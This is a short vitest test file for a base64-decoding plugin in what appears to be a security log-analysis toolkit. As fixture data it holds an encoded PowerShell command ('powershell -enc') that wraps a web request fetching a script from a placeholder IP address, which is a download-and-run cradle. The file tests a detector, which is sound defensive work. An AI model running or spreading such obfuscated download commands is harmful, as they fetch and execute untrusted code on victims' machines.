import { readFileSync } from 'node:fs';
import { decode } from '@pivotkit/plugin-decode';
import { pluginSuite } from '@pivotkit/testkit';
import { test } from 'vitest';

const encoded = Buffer.from('iwr http://203.0.113.9/a.ps1', 'utf16le').toString('base64');

pluginSuite({ test }, decode, {
  readme: readFileSync('plugins/decode/README.md', 'utf8'),
  pivots: {
    'decode.base64': { known: { Process: [`powershell -enc ${encoded}`] }, unknown: { Process: ['notepad'] } },
    'decode.text': { known: { Unknown: [`see ${encoded}`] }, unknown: { Unknown: ['nothing at all'] } },
  },
  verbs: {
    'decode.base64': {
      rows: [
        { commandLine: `powershell -enc ${encoded}`, n: 1 },
        { commandLine: null, n: 2 },
        { commandLine: 'dir', n: 3 },
      ],
      options: { column: 'commandLine' },
      wrongOptions: { maxDepth: 0 },
      needs: ['commandLine'],
    },
  },
});
